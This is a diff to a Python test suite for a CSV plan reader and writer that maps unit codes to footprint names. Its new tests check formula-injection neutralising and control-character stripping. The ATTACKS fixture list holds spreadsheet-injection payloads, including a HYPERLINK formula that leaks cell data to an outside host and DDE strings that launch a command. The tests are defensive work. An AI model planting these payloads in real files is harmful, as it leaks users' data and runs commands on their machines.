@@ -25,12 +25,21 @@ def read(text: str | bytes, known=KNOWN, nhs=NHS) -> PlanImport:
 
 
 def test_a_clean_file():
-    imp = read("unit_code,footprint\nE38000001,North\nE38000002,North\nE38000003,South\n"
-               "E38000004,South\n")
+    imp = read(
+        "unit_code,footprint\nE38000001,North\nE38000002,North\nE38000003,South\nE38000004,South\n"
+    )
     assert imp == PlanImport(
-        assignment={"E38000001": "North", "E38000002": "North", "E38000003": "South",
-                    "E38000004": "South"},
-        unknown_codes=(), missing=(), duplicates=(), problems=(), rows=4,
+        assignment={
+            "E38000001": "North",
+            "E38000002": "North",
+            "E38000003": "South",
+            "E38000004": "South",
+        },
+        unknown_codes=(),
+        missing=(),
+        duplicates=(),
+        problems=(),
+        rows=4,
     )
     assert imp.clean
 
@@ -51,8 +60,12 @@ def test_footprint_names_that_look_like_numbers_stay_text():
 
 def test_nhs_codes_are_translated_and_may_mix_with_unit_codes():
     imp = read("unit_code,footprint\n00C,North\n01a,North\nE38000003,South\n99M,South\n")
-    assert imp.assignment == {"E38000001": "North", "E38000002": "North",
-                              "E38000003": "South", "E38000004": "South"}
+    assert imp.assignment == {
+        "E38000001": "North",
+        "E38000002": "North",
+        "E38000003": "South",
+        "E38000004": "South",
+    }
     assert imp.clean
     # an NHS code and its unit code for the same unit are one unit twice
     twice = read("unit_code,footprint\n00C,North\nE38000001,North\n")
@@ -61,9 +74,7 @@ def test_nhs_codes_are_translated_and_may_mix_with_unit_codes():
 
 def test_bom_header_case_spaces_and_other_columns():
     data = (
-        "\ufeff Unit Code ;FOOTPRINT;name\n"
-        "E38000001; North ;NHS Somewhere\n"
-        "e38000002;North;\n"
+        "\ufeff Unit Code ;FOOTPRINT;name\nE38000001; North ;NHS Somewhere\ne38000002;North;\n"
     ).encode("utf-8")
     imp = read(data)
     assert imp.assignment == {"E38000001": "North", "E38000002": "North"}
@@ -88,16 +99,16 @@ def test_tabs_and_quoted_commas():
 def test_unknown_missing_duplicates_and_bad_rows_are_all_collected():
     text = (
         "unit_code,footprint\n"
-        "E38000001,North\n"   # line 2
-        "E38000001,North\n"   # 3: identical repeat, kept
-        "E38000002,North\n"   # 4
-        "E38000002,South\n"   # 5: conflicting repeat, left out
-        "\n"                  # 6: blank, ignored
-        "XYZ,South\n"         # 7: unknown
-        ",South\n"            # 8: no code
-        "E38000003\n"         # 9: too few values
+        "E38000001,North\n"  # line 2
+        "E38000001,North\n"  # 3: identical repeat, kept
+        "E38000002,North\n"  # 4
+        "E38000002,South\n"  # 5: conflicting repeat, left out
+        "\n"  # 6: blank, ignored
+        "XYZ,South\n"  # 7: unknown
+        ",South\n"  # 8: no code
+        "E38000003\n"  # 9: too few values
         "E38000003,South,x\n"  # 10: too many values
-        "ABC,\n"              # 11: unknown (and unassigned)
+        "ABC,\n"  # 11: unknown (and unassigned)
     )
     imp = read(text)
     assert imp.assignment == {"E38000001": "North"}
@@ -144,11 +155,14 @@ def test_header_only_is_a_plan_with_no_rows():
 
 
 def test_missing_columns_name_what_was_found():
-    with pytest.raises(InputFileError, match=(
-        r"the plan file: the header has the column\(s\) 'code', 'team'; expected 'unit_code' and "
-        r"'footprint' \(missing: unit_code, footprint\)\. Put the header line "
-        r"'unit_code,footprint' first"
-    )):
+    with pytest.raises(
+        InputFileError,
+        match=(
+            r"the plan file: the header has the column\(s\) 'code', 'team'; expected "
+            r"'unit_code' and 'footprint' \(missing: unit_code, footprint\)\. Put the header line "
+            r"'unit_code,footprint' first"
+        ),
+    ):
         read("code,team\nE38000001,North\n")
     with pytest.raises(InputFileError, match=r"column\(s\) 'unit_code'; .*\(missing: footprint\)"):
         read("unit_code\nE38000001\n")
@@ -157,20 +171,32 @@ def test_missing_columns_name_what_was_found():
 @pytest.mark.parametrize(
     ("data", "expected"),
     [
-        (b"", "the plan file: the file is empty; expected a header line 'unit_code,footprint' "
-              "and one line per unit"),
+        (
+            b"",
+            "the plan file: the file is empty; expected a header line 'unit_code,footprint' "
+            "and one line per unit",
+        ),
         (b"\n\r\n  \n", "the plan file: the file is empty"),
         ("\ufeff".encode(), "the plan file: the file is empty"),
-        (b"PK\x03\x04\x14\x00\x06\x00", r"not a CSV text file \(it looks like a zip archive or an "
-                                        r"Excel workbook \(\.xlsx\)\)\. Save the plan as 'CSV "
-                                        r"UTF-8 \(comma delimited\)'"),
+        (
+            b"PK\x03\x04\x14\x00\x06\x00",
+            r"not a CSV text file \(it looks like a zip archive or an "
+            r"Excel workbook \(\.xlsx\)\)\. Save the plan as 'CSV "
+            r"UTF-8 \(comma delimited\)'",
+        ),
         (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", r"it looks like an old Excel workbook \(\.xls\)"),
-        ("unit_code,footprint\n".encode("utf-16"), r"not a CSV text file \(it holds binary data: "
-                                                   "a spreadsheet, or text saved as UTF-16\\)"),
+        (
+            "unit_code,footprint\n".encode("utf-16"),
+            r"not a CSV text file \(it holds binary data: "
+            "a spreadsheet, or text saved as UTF-16\\)",
+        ),
         (bytes(range(256)) * 4, r"not a CSV text file \(it holds binary data"),
         (b"\x81\x8d\x8f\x90\x9d" * 10, "its bytes are neither UTF-8 nor Windows-1252 text"),
-        (b"\x01\x02\x03\x04\x05\x06unit_code,footprint", r"not a CSV text file \(it holds binary "
-                                                         r"data\)"),
+        (
+            b"\x01\x02\x03\x04\x05\x06unit_code,footprint",
+            r"not a CSV text file \(it holds binary "
+            r"data\)",
+        ),
     ],
 )
 def test_unusable_files_are_refused(data: bytes, expected: str):
@@ -217,7 +243,7 @@ def test_write_sorted_or_in_the_given_order():
 
 
 def test_write_read_round_trip_keeps_text():
-    plan = {"00C": " 007 ", "00D": "Nörth \"quoted\"", "01A": "", "099": "a;b"}
+    plan = {"00C": " 007 ", "00D": 'Nörth "quoted"', "01A": "", "099": "a;b"}
     data = write_plan_csv(plan, codes=ZEROS)
     imp = read_plan_csv(data, known_codes=ZEROS)
     assert imp.assignment == {"00C": "007", "00D": 'Nörth "quoted"', "099": "a;b"}
@@ -226,14 +252,18 @@ def test_write_read_round_trip_keeps_text():
 
 
 def test_write_refuses_bad_plans():
-    with pytest.raises(PlanError, match=(
-        r"(?s)Cannot write the plan:.*unit 'a' -> 5: footprint names must be text"
-        r".*unit code 3 is int; unit codes must be text"
-    )):
+    with pytest.raises(
+        PlanError,
+        match=(
+            r"(?s)Cannot write the plan:.*unit 'a' -> 5: footprint names must be text"
+            r".*unit code 3 is int; unit codes must be text"
+        ),
+    ):
         write_plan_csv({"a": 5, 3: "x"})  # type: ignore[dict-item]
-    with pytest.raises(PlanError, match=(
-        r"1 assigned code\(s\) are not among the codes to write: zz; pass every unit code"
-    )):
+    with pytest.raises(
+        PlanError,
+        match=(r"1 assigned code\(s\) are not among the codes to write: zz; pass every unit code"),
+    ):
         write_plan_csv({"zz": "A"}, codes=["a"])
     with pytest.raises(PlanError, match="codes= repeats a; give each unit once"):
         write_plan_csv({}, codes=["a", "a"])
@@ -244,11 +274,132 @@ def test_write_refuses_bad_plans():
 def test_reads_the_exporters_csv():
     units = grid_units(2, 2)
     units["code"] = ZEROS
-    geo = build_geography(units, population_table(ZEROS, [1, 2, 3, 4]), code_column="code",
-                          population_column="population", name="Zeros")
+    geo = build_geography(
+        units,
+        population_table(ZEROS, [1, 2, 3, 4]),
+        code_column="code",
+        population_column="population",
+        name="Zeros",
+    )
     plan = {"00C": "N&S", "00D": "N&S", "01A": "East"}
     data = export_csv(geo, plan)
     imp = read_plan_csv(data, known_codes=geo.units["code"])
     assert imp.assignment == plan
     assert imp.missing == () and imp.rows == 4 and imp.problems == ()
     assert write_plan_csv(imp.assignment, codes=sorted(ZEROS)) == data
+
+
+# --- names from a file are text, never formulas or control characters ---------------------------
+
+FORMULAS = ["=A", "+B", "-C", "@D", "'E", "'=F"]
+ATTACKS = [
+    '=HYPERLINK("http://elsewhere/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "=1+2",
+]
+
+
+def test_formula_names_are_written_neutralised():
+    plan = dict(zip(KNOWN, ATTACKS[:4], strict=True))
+    data = write_plan_csv(plan).decode("utf-8")
+    cells = [line.split(",", 1)[1] for line in data.splitlines()[1:]]
+    # the first character a spreadsheet sees is the quote that makes the cell text
+    assert cells == [
+        '"\'=HYPERLINK(""http://elsewhere/?leak=""&A1,""Click"")"',
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'-2+3",
+    ]
+    import csv
+    import io
+
+    for row in list(csv.reader(io.StringIO(data)))[1:]:
+        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_formula_names_round_trip_exactly():
+    codes = [f"U{i}" for i in range(len(FORMULAS) + len(ATTACKS))]
+    plan = dict(zip(codes, FORMULAS + ATTACKS, strict=True))
+    data = write_plan_csv(plan, codes=codes)
+    imp = read_plan_csv(data, known_codes=codes)
+    assert imp.assignment == plan
+    assert imp.clean
+    # and through the exporters' plan CSV too
+    units = grid_units(1, len(codes))
+    units["code"] = codes
+    geo = build_geography(
+        units,
+        population_table(codes, range(len(codes))),
+        code_column="code",
+        population_column="population",
+    )
+    assert read_plan_csv(export_csv(geo, plan), known_codes=codes).assignment == plan
+
+
+def test_a_planners_own_quote_is_kept():
+    imp = read("unit_code,footprint\nE38000001,'North\nE38000002,'\nE38000003,=A\n")
+    # only the quote the app puts before a formula character is taken off; a bare formula
+    # typed by hand stays as typed (it is only a name here)
+    assert imp.assignment == {"E38000001": "'North", "E38000002": "'", "E38000003": "=A"}
+
+
+def test_control_characters_leave_imported_names():
+    imp = read('unit_code,footprint\nE38000001,"Nor\x00th\x1b"\nE38000002,"\u202eWest\t Side"\n')
+    assert imp.assignment == {"E38000001": "North", "E38000002": "West Side"}
+    assert read("unit_code,footprint\nE38000003,\x07\n").assignment == {}  # nothing left
+    data = write_plan_csv({"E38000001": "A\x00B", "E38000002": "x\r\ny"})
+    assert data == b"unit_code,footprint\nE38000001,AB\nE38000002,x y\n"
+
+
+def test_an_unclosed_quote_is_reported_not_swallowed():
+    text = (
+        "unit_code,footprint\n"
+        "E38000001,North\n"  # line 2: kept
+        'E38000002,"North\n'  # 3: opens a quote that never closes
+        "E38000003,South\n"
+        "E38000004,South\n"
+    )
+    imp = read(text)
+    assert imp.assignment == {"E38000001": "North"}
+    assert imp.problems == (
+        "line 3 opens a quote that is never closed; the rest of the file (lines 3 to 5) was read "
+        'as one value and skipped. Remove the stray double quote (") or close it, then import the '
+        "file again",
+    )
+    assert not imp.clean
+    assert imp.missing == ("E38000002", "E38000003", "E38000004")
+
+
+def test_a_quote_closed_lines_later_is_reported():
+    text = (
+        "unit_code,footprint\r\n"
+        "\r\n"
+        'E38000001,"North\r\n'  # line 3 opens, line 4 closes: two units read as one value
+        'E38000002,North"\r\n'
+        "E38000003,South\r\n"
+        "E38000004,South\r\n"
+    )
+    imp = read(text)
+    assert imp.assignment == {"E38000003": "South", "E38000004": "South"}
+    assert imp.problems == (
+        "line 3 opens a quote that is closed only on line 4; lines 3 to 4 were read as one value "
+        'with line breaks and skipped. Remove the stray double quotes (") so that each unit is on '
+        "a line of its own",
+    )
+    # the lines after it keep their own numbers in other messages
+    later = read(text + ",x\n")
+    assert "line 7 has no unit code; it was skipped" in later.problems
+
+
+def test_an_unclosed_quote_in_the_header_is_refused():
+    with pytest.raises(
+        InputFileError,
+        match=(
+            r"the plan file: the header line \(line 1\) opens a double quote that is not closed on "
+            r"that line, so the rest of the file was read as the header\. Remove the stray double "
+            r"quote; the header should be 'unit_code,footprint'"
+        ),
+    ):
+        read('unit_code,"footprint\nE38000001,North\nE38000002,South\n')
